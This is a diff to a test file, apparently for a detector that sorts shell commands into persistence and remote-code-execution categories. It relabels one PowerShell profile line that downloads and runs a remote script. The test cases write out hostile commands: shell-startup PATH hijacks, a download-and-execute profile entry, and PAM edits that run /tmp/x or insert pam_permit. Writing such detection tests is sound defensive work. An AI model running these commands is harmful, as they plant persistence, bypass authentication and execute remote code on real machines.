@@ -87,7 +87,7 @@ describe("round 2: start-up files of every shell, PAM, accounts", () => {
     ["cat plugin.zsh > ~/.oh-my-zsh/custom/evil.zsh", "persistence-system-startup"],
     ["echo 'setenv PATH /tmp/bin:$PATH' >> ~/.tcshrc", "persistence-system-startup"],
     ["echo '$env.PATH = ($env.PATH | prepend /tmp/bin)' >> ~/.config/nushell/config.nu", "persistence-system-startup"],
-    ["echo 'iex (iwr https://x.example/p.ps1)' >> ~/.config/powershell/Microsoft.PowerShell_profile.ps1", "persistence-system-startup"],
+    ["echo 'iex (iwr https://x.example/p.ps1)' >> ~/.config/powershell/Microsoft.PowerShell_profile.ps1", "remote-code-exec"],
     ["sudo cp completion.sh /etc/bash_completion.d/tool", "persistence-system-startup"],
     ["echo 'session optional pam_exec.so /tmp/x' | sudo tee -a /etc/pam.d/sshd", "persistence-pam"],
     ["sudo sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/common-auth", "persistence-pam"],
